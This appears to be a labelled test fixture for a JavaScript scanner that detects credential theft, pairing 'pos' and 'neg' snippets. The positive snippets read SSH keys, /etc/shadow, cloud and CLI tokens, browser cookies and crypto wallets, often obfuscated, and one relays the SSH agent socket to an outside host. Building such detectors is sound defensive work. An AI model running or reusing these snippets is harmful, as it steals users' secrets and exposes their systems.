//@ pos an SSH private key
const fs = require('fs');
fs.readFileSync('/root/.ssh/id_rsa', 'utf8');
//@ pos the home directory's SSH keys, joined
const path = require('path'), os = require('os');
fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_ed25519'));
//@ pos a template with the home directory
fs.readFileSync(`${os.homedir()}/.ssh/authorized_keys`);
//@ pos concatenated with process.env.HOME
fs.readFileSync(process.env.HOME + '/.aws/credentials');
//@ pos /etc/shadow
require('fs').readFile('/etc/shadow', cb);
//@ pos /etc/shadow hidden in escapes
fs.readFileSync('/etc/\x73hadow');
//@ pos built by concatenation
fs.readFileSync('/etc/sha' + 'dow');
//@ pos built by a reversed string
fs.readFileSync('wodahs/cte/'.split('').reverse().join(''));
//@ pos base64-decoded path
fs.readFileSync(Buffer.from('L2V0Yy9zaGFkb3c=', 'base64').toString());
//@ pos the environment of another process
fs.readFileSync('/proc/self/environ');
//@ pos npm and docker credentials
[`${home}/.npmrc`, '~/.docker/config.json', '~/.kube/config'].forEach(read);
//@ pos git credentials
fs.readFileSync(home + '/.git-credentials');
//@ neg ordinary paths
fs.readFileSync('/etc/hostname');
fs.readFileSync('./data/ssh_notes.txt');
fs.readFileSync('config/aws-region.json');
//@ neg the words in a comment
// never read ~/.ssh/id_rsa
console.log('ssh connection ok');
//@ neg a file that only mentions the name
fs.writeFileSync('out.txt', 'shadow of the colossus');
//@ neg .env (js-dotenv: high only with the network)
require("fs").readFileSync(".env", "utf8");
//@ pos .netrc
require("fs").readFileSync(".netrc", "utf8");
//@ neg .env.example
require("fs").readFileSync(".env.example", "utf8");
//@ pos a directory name spelled by mapping char codes through String.fromCharCode
const dir = String.fromCharCode(46) + [97, 119, 115].map((c) => String.fromCharCode(c)).join('');
require('fs').readFileSync(require('path').resolve(require('os').homedir(), dir, 'cred' + 'entials'));
//@ pos a function expression with a lone return as the callback
const d2 = ['s', 's', 'h'].map(function (x) { return x; }).join('');
require('fs').readdirSync('/root/.' + d2);
//@ neg a map over words that names nothing
const words = ['alpha', 'beta'].map((w) => w.toUpperCase()).join(' ');
console.log(words);
//@ pos credential directories by a glob
const fs = require('fs');
const os = require('os');
fs.globSync(`${os.homedir()}/.{ssh,aws,config/gcloud}/*`);
//@ pos one letter of the directory in brackets or a ?
const a = '~/.s[s]h/id_*';
const b = '/home/u/.a?s/credentials';
const c = '/root/.*/credentials';
require('glob').sync(a).concat(require('glob').sync(b), require('glob').sync(c));
//@ neg globs of a project's files
const fs = require('fs');
fs.globSync('src/**/*.{js,ts}');
fs.globSync('.{eslintrc,prettierrc}*');
fs.globSync('docs/.s*/x');
//@ pos util.format of the home directory and the parts of a key path
const util = require('util');
const os = require('os');
require('fs').readFileSync(util.format('%s/.%s/%s', os.homedir(), 'aws', 'credentials'));
//@ pos the home directory through a name, then concatenated
const h = require('os').homedir();
const p = h + '/.a' + 'ws/credentials';
require('fs').readFileSync(p);
//@ neg util.format of an ordinary path
const util = require('util');
const os = require('os');
require('fs').readFileSync(util.format('%s/.config/%s/settings.json', os.homedir(), 'myapp'));
//@ pos a regular expression for key files over a listing of the home directory
const os = require('os');
const fs = require('fs');
const keys = fs.readdirSync(os.homedir(), { recursive: true }).filter((f) => /id_[a-z0-9]+$/.test(f));
//@ neg a regular expression for numeric ids in a program that uses the home directory
const os = require('os');
const ids = ['id_1', 'x'].filter((s) => /^id_\d+$/.test(s));
console.log(ids, os.homedir());
//@ pos developer CLIs' token files
const fs = require('fs'), os = require('os'), path = require('path');
fs.readFileSync(path.join(os.homedir(), '.config', 'gh', 'hosts.yml'));
fs.readFileSync(os.homedir() + '/.cargo/credentials.toml');
//@ neg a CLI's ordinary configuration files
const fs = require('fs'), os = require('os'), path = require('path');
fs.readFileSync(path.join(os.homedir(), '.config', 'gh', 'config.yml'));
fs.readFileSync(os.homedir() + '/.cargo/config.toml');
//@ pos a regex that selects .ssh and .aws by what it matches, not how it is spelled
const fs = require('fs');
const os = require('os');
const want = /^\.(s{2}h|a\w{2})$/;
for (const d of fs.readdirSync(os.homedir())) if (want.test(d)) console.log(d);
//@ pos new RegExp built from key kinds
const fs = require('fs');
const os = require('os');
const re = new RegExp('^id_(' + ['rsa', 'ed25519'].join('|') + ')$');
fs.readdirSync(os.homedir(), { recursive: true }).filter((f) => re.test(f));
//@ neg a regex that skips dot-files and one that picks log files
const fs = require('fs');
const os = require('os');
const names = fs.readdirSync(os.homedir()).filter((n) => !/^\./.test(n) && !/\.log$/i.test(n));
//@ pos a file: URL whose name is percent-encoded
const fs = require('fs');
const os = require('os');
fs.readFileSync(new URL(`file://${os.homedir()}/%2E%73sh/id_rsa`));
//@ pos a host-less file: URL
const fs = require('fs');
fs.readFileSync(new URL('file:/root/%2Enetrc'));
//@ pos files of the home kept by a private key header in their text
const fs = require('fs');
const os = require('os');
for (const f of fs.readdirSync(os.homedir())) {
  const t = fs.readFileSync(os.homedir() + '/' + f, 'utf8');
  if (t.includes('PRIVATE KEY-----')) console.log(f);
}
//@ neg a PEM parser that does not look in the home directory
const fs = require('fs');
const pem = fs.readFileSync(process.argv[2], 'utf8');
console.log(pem.includes('BEGIN RSA PRIVATE KEY') ? 'rsa' : 'other');
//@ pos a regular expression for the AWS secret key line over home files
const fs = require('fs');
const os = require('os');
const KEY = /aws_secret_access_key\s*=\s*(\S+)/;
for (const f of fs.readdirSync(os.userInfo().homedir)) console.log(KEY.exec(f));
//@ pos the Chrome cookie database
const p = require('path').join(require('os').homedir(), '.config', 'google-chrome', 'Default', 'Cookies');
//@ pos the Firefox saved logins
const logins = `${process.env.HOME}/.mozilla/firefox/abc.default-release/logins.json`;
//@ pos a list kept in an object literal's member, joined
const fs = require('fs'), os = require('os'), path = require('path');
const L = { segs: ['.a', 'ws'], leaf: 'credentials' };
fs.readFileSync(path.join(os.homedir(), L.segs.join(''), L.leaf));
//@ pos a list of character-code lists mapped through String.fromCharCode
const fs = require('fs');
const T = [[112, 114, 111, 99], [115, 101, 108, 102], [101, 110, 118, 105, 114, 111, 110]];
fs.readFileSync('/' + T.map((c) => String.fromCharCode(...c)).join('/'));
//@ pos a template whose part takes each value of a list
const fs = require('fs'), os = require('os');
for (const v of ['gcl', 'az']) fs.readFileSync(`${os.homedir()}/.config/${v}oud/credentials.db`);
//@ neg a template of a config file under the home, each part known
const fs = require('fs'), os = require('os');
for (const app of ['notes', 'todo']) fs.readFileSync(`${os.homedir()}/.config/${app}/settings.json`);
//@ pos the Hugging Face token read
require('fs').readFileSync(require('path').join(require('os').homedir(), '.cache/huggingface/token'), 'utf8');
//@ pos podman's registry logins read
require('fs').readFileSync(`${require('os').homedir()}/.config/containers/auth.json`);
//@ neg the Hugging Face hub cache listed
require('fs').readdirSync(require('path').join(require('os').homedir(), '.cache/huggingface/hub'));
//@ pos express.static of the home directory
require('express')().use(require('express').static(require('os').homedir()));
//@ pos serve-handler with the home as its public directory
require('serve-handler')(req, res, { public: process.env.HOME });
//@ pos python's http.server run with the home as its working directory
require('child_process').exec('python3 -m http.server 8000', { cwd: require('os').homedir() });
//@ neg express.static of a public directory
require('express')().use(require('express').static(require('path').join(__dirname, 'public')));
//@ neg a command that is no server, run in the home
require('child_process').execFile('ls', ['-la'], { cwd: require('os').homedir() });
//@ pos a hand-written file server streaming files below the home
const http = require('http'), fs = require('fs'), path = require('path'), os = require('os');
http.createServer((q, s) => fs.createReadStream(path.join(os.homedir(), q.url)).pipe(s)).listen(8080);
//@ pos the same with readFile, res.end and the home in a name
const http = require('http'), fs = require('fs');
const root = process.env.HOME;
http.createServer((req, res) => fs.readFile(root + req.url, (e, d) => res.end(d))).listen(8080);
//@ pos the handler a named function, the home in a name
const http = require('http'), fs = require('fs'), os = require('os');
const home = os.homedir();
function handle(req, res) { fs.readFile(home + req.url, (e, d) => res.end(d)); }
http.createServer(handle).listen(8080);
//@ neg a hand-written static server of the program's own ./public
const http = require('http'), fs = require('fs'), path = require('path');
http.createServer((req, res) => fs.createReadStream(path.join(__dirname, 'public', req.url)).pipe(res)).listen(8080);
//@ pos an express route that sends the requested file with the home as root
const express = require('express');
const os = require('os');
const app = express();
app.get('/*', (req, res) => res.sendFile(req.params[0], { root: os.homedir() }));
//@ pos a request listener added with server.on that streams a file below HOME
const http = require('http');
const fs = require('fs');
const server = http.createServer();
server.on('request', (req, res) => fs.createReadStream(process.env.HOME + req.url).pipe(res));
//@ neg an express route that sends files of the project's public directory
const express = require('express');
const path = require('path');
const app = express();
app.get('/*', (req, res) => res.sendFile(req.params[0], { root: path.join(__dirname, 'public') }));
//@ neg a watcher that reads a settings file in the home when it changes
const fs = require('fs');
const os = require('os');
const w = fs.watch('.');
w.on('change', (ev, name) => console.log(name, fs.readFileSync(os.homedir() + '/.toolrc', 'utf8').length));
//@ pos a router route whose handler is a named function streaming files below the home
const express = require('express');
const fs = require('fs');
const os = require('os');
const root = os.homedir();
function serve(req, res) { fs.createReadStream(root + req.path).pipe(res); }
express.Router().get('/*', serve);
//@ neg a map lookup by a name next to a settings file read from the home
const fs = require('fs');
const os = require('os');
const key = 'port';
const cfg = new Map(Object.entries(JSON.parse(fs.readFileSync(os.homedir() + '/.toolrc'))));
console.log(cfg.get(key), process.argv.slice(2).map((a) => a.path));
//@ pos the home handed to WebAssembly code through WASI preopens
const { WASI } = require('wasi');
const os = require('os');
new WASI({ version: 'preview1', preopens: { '/': os.homedir() } });
//@ neg a project directory handed to WebAssembly code through WASI preopens
const { WASI } = require('wasi');
new WASI({ version: 'preview1', preopens: { '/work': __dirname + '/sandbox' } });
//@ pos a browser's cookies asked for over the DevTools protocol
const ws = new WebSocket(process.argv[2]);
ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: 'Network.getAllCookies' }));
//@ pos another program's token read from the keyring
const keytar = require('keytar');
keytar.findPassword('GitHub').then((t) => console.log(t));
//@ neg the program's own token read from the keyring
const keytar = require('keytar');
keytar.getPassword('notes-cli', 'me').then((t) => console.log(Boolean(t)));
//@ pos a Solana wallet's keypair
const fs = require('fs'), path = require('path'), os = require('os');
fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'id.json'));
//@ pos Bitcoin Core's data directory
const fs = require('fs'), path = require('path'), os = require('os');
fs.readdirSync(path.join(os.homedir(), '.bitcoin'));
//@ pos the instance metadata service's role credentials
fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/' + role);
//@ neg the instance metadata service's region
fetch('http://169.254.169.254/latest/meta-data/placement/region');
//@ neg a credential-looking path as test data of a pure function
const assert = require('assert');
const parent = (p) => p.split('/').slice(0, -1).join('/');
assert.strictEqual(parent('/home/u/.ssh/id_rsa'), '/home/u/.ssh');
//@ pos the SSH agent's socket relayed out
const net = require('net');
net.connect(process.env.SSH_AUTH_SOCK).pipe(net.connect(4444, '203.0.113.9'));
//@ pos the SSH agent's socket as a shorthand path through a parameter
const { createConnection } = require('net');
function relay(path) { return createConnection({ path }); }
relay(process.env.SSH_AUTH_SOCK);
//@ neg the SSH agent named to an SSH client
new (require('ssh2').Client)().connect({ host: 'h', username: 'u', agent: process.env.SSH_AUTH_SOCK });
//@ pos a key path mapped through fs.readFileSync in a program of pure calls
const fs = require('fs');
console.log(['/root/.ssh/id_rsa'].map(fs.readFileSync).join(''));
//@ pos the SSH agent's socket connected on a new net.Socket()
const s = new (require('net').Socket)();
s.connect(process.env.SSH_AUTH_SOCK);
//@ pos the same through connect's path option and a name
const where = process.env['SSH_AUTH_SOCK'];
new (require('net').Socket)().connect({ path: where });
//@ neg ssh2's connect given the agent's socket as agent:
new (require('ssh2').Client)().connect({ host: 'h', username: 'u', agent: process.env.SSH_AUTH_SOCK });
//@ pos git credential fill
require('child_process').execFileSync('git', ['credential', 'fill'], { input: 'host=github.com\n\n' });
//@ neg git credential reject, which forgets a password
require('child_process').execFileSync('git', ['credential', 'reject'], { input: 'host=github.com\n\n' });
//@ pos Pulumi's access tokens in the home
require('fs').readFileSync(require('os').homedir() + '/.pulumi/credentials.json');
//@ pos the Netlify CLI's tokens
require('fs').readFileSync(`${require('os').homedir()}/.config/netlify/config.json`);
//@ pos the Vercel CLI's token
require('fs').readFileSync(require('path').join(require('os').homedir(), '.local/share/com.vercel.cli/auth.json'));
//@ neg a project's Pulumi stack settings
require('fs').readFileSync('Pulumi.dev.yaml');
//@ pos a browser extension's local storage (a wallet's vault)
const fs = require('fs');
const path = require('path');
fs.readdirSync(path.join(require('os').homedir(), '.config/google-chrome/Default/Local Extension Settings', 'nkbihfbeogaeaoehlefnkodbefgpgknn'));
//@ pos an extension's IndexedDB store named by itself
const store = 'chrome-extension_ejbalbakoplchlghecdalmeeeajnimhm_0.indexeddb.leveldb';
require('fs').cpSync(require('path').join(process.argv[2], 'IndexedDB', store), '/tmp/x', { recursive: true });
//@ neg the browser's bookmarks
const fs = require('fs');
const path = require('path');
fs.readFileSync(path.join(require('os').homedir(), '.config/google-chrome/Default/Bookmarks'), 'utf8');
//@ pos Composer's auth.json in its XDG place, the GitLab and Stripe CLIs' configs
fs.readFileSync(path.join(os.homedir(), '.config', 'composer', 'auth.json'));
fs.readFileSync(`${os.homedir()}/.config/glab-cli/config.yml`);
fs.readFileSync(os.homedir() + '/.config/stripe/config.toml');
//@ neg the same tools' files that hold no secret
fs.readFileSync(path.join(os.homedir(), '.config', 'glab-cli', 'aliases.yml'));
fs.readFileSync('composer.json');
//@ pos Subversion's saved passwords
const fs = require('fs');
const os = require('os');
fs.readdirSync(os.homedir() + '/.subversion/auth/svn.simple');
//@ pos npm config get of the registry token
const { execFileSync } = require('child_process');
execFileSync('npm', ['config', 'get', '//registry.npmjs.org/:_authToken']);
//@ neg npm config get of the registry
const { execFileSync } = require('child_process');
execFileSync('npm', ['config', 'get', 'registry']);
//@ pos msmtp's configuration
require("fs").readFileSync(require("os").homedir() + "/.msmtprc", "utf8");
//@ pos Emacs' authinfo
require("fs").readFileSync(require("path").join(require("os").homedir(), ".authinfo.gpg"));
//@ pos Poetry's auth.toml
require("fs").readFileSync(`${require("os").homedir()}/.config/pypoetry/auth.toml`, "utf8");
//@ pos Thunderbird's profiles
require("fs").readdirSync(require("path").join(require("os").homedir(), ".thunderbird"));
//@ pos VS Code's secret storage
require("fs").readFileSync(require("os").homedir() + "/.config/Code/User/globalStorage/state.vscdb");
//@ neg a project's pyproject.toml and its .vscode settings
require("fs").readFileSync("pyproject.toml", "utf8");
require("fs").readFileSync(".vscode/settings.json", "utf8");
//@ pos Helm's repository passwords and registry logins
fs.readFileSync(path.join(os.homedir(), '.config', 'helm', 'repositories.yaml'));
fs.readFileSync(`${os.homedir()}/.config/helm/registry/config.json`);
//@ neg a chart's own files and Helm's cache
fs.readFileSync('charts/app/Chart.yaml');
fs.readFileSync(`${os.homedir()}/.cache/helm/repository/index.yaml`);
//@ pos cloudflared's login, NuGet's feed passwords, sbt's and Ivy's credentials
fs.readFileSync(path.join(os.homedir(), '.cloudflared', 'cert.pem'));
fs.readFileSync(`${os.homedir()}/.nuget/NuGet/NuGet.Config`);
fs.readFileSync(`${os.homedir()}/.config/NuGet/NuGet.Config`);
fs.readFileSync(os.homedir() + '/.sbt/.credentials');
fs.readFileSync(os.homedir() + '/.ivy2/.credentials');
//@ neg cloudflared's directory, NuGet's package cache and a project's NuGet.Config
fs.existsSync(path.join(os.homedir(), '.cloudflared'));
fs.readdirSync(`${os.homedir()}/.nuget/packages`);
fs.readFileSync('NuGet.Config', 'utf8');
//@ pos Snowflake's connections and config (account passwords, tokens)
fs.readFileSync(path.join(os.homedir(), '.snowflake', 'connections.toml'));
fs.readFileSync(`${os.homedir()}/.snowflake/config.toml`);
//@ neg Snowflake's directory and a project's snowflake.yml
fs.existsSync(path.join(os.homedir(), '.snowflake'));
fs.readFileSync('snowflake.yml', 'utf8');
